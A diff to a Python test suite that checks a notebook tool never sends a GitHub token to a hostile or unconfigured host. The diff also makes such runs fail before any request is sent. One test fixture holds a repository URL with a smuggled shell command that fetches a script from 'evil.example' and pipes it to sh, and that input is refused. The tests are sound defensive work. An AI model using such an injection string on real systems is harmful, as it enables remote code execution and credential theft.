@@ -89,15 +89,14 @@ def test_1_a_recording_never_chooses_where_the_token_goes(shell, simulator, tmp_
     assert "changes unavailable" in out and "neither github.com nor the GitHub configured" in out
 
 
-def test_1_a_live_run_on_another_host_reads_nothing_and_says_why(simulator, tmp_path):
+def test_1_a_run_on_another_host_is_refused_before_anything_is_sent(simulator, tmp_path):
     with Listener() as hostile:
+        before = len(simulator.request_log())
         for configured in (None, simulator.url + "/github"):
-            run = cc_jupyter.invoke("x\nsim: push=none", repo=f"{elsewhere(hostile.url)}/o/r", api_url=simulator.url, api_key=API_KEY,
-                                    github_token=GITHUB_TOKEN, github_api_url=configured)
-            assert run.status == "completed" and run.changes is not None
-            assert "neither github.com nor the GitHub configured" in run.changes.error
-            assert "CloudCode.github_api_url" in run.changes.error
-        assert hostile.received == []
+            with pytest.raises(cc_jupyter.InvalidRequestError, match="Not a repository the API works on"):
+                cc_jupyter.invoke("x", repo=f"{elsewhere(hostile.url)}/o/r", api_url=simulator.url, api_key=API_KEY,
+                                  github_token=GITHUB_TOKEN, github_api_url=configured)
+        assert hostile.received == [] and len(simulator.request_log()) == before
 
 
 def test_1_a_redirect_from_the_configured_github_does_not_carry_the_token(simulator):
@@ -288,7 +287,7 @@ def commands_in(message: str) -> list[list[str]]:
 
 def test_6_a_repository_url_that_is_a_shell_command_is_refused_at_the_border(shell, tmp_path, capsys):
     craft(recordings(tmp_path), header={"repo": "https://github.com/o/r;curl${IFS}evil.example|sh"})
-    with pytest.raises(UsageError, match="No such run"):
+    with pytest.raises(UsageError, match="No runs yet"):
         line(shell, "pull")
     assert "repository is not valid" in capsys.readouterr().out
 
